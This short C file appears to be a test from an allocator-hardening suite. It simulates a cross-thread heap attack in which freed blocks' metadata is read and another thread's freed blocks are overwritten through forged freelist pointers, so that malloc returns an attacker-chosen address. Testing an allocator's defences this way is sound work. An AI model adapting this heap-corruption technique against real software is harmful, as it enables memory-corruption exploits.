/* The attacker has read one free block of this thread's, and writes to one that another thread has
 * freed, on its way back. Won: malloc returns his address. */
#include "leak.h"

static word *block[400];

static void *free_all(void *unused)
{
    for (unsigned i = 0; i < 400; i++)
        free(block[i]);
    return unused;
}

static void leaked(word how)
{
    static const size_t sizes[] = {8, 64, 500};
    size_t size = sizes[how / GUESSES];
    unsigned words = size > 8 ? 2 : 1;
    word *read = malloc(size), *next = malloc(size), was[2] = {0, 0};

    for (unsigned i = 0; i < 400; i++)
        block[i] = malloc(size);
    free(next);
    free(read);
    memcpy(was, read, words * sizeof(word));
    in_a_thread(free_all, NULL);
    for (unsigned i = 0; i < 400; i++)
        forge(how % GUESSES, block[i], words, read, was, (word)next, (word)target);
    go_on(size, 2000);
}

int main(void)
{
    for (word how = 0; how < 3 * GUESSES; how++)
        try_out(leaked, how);
    return HELD;
}
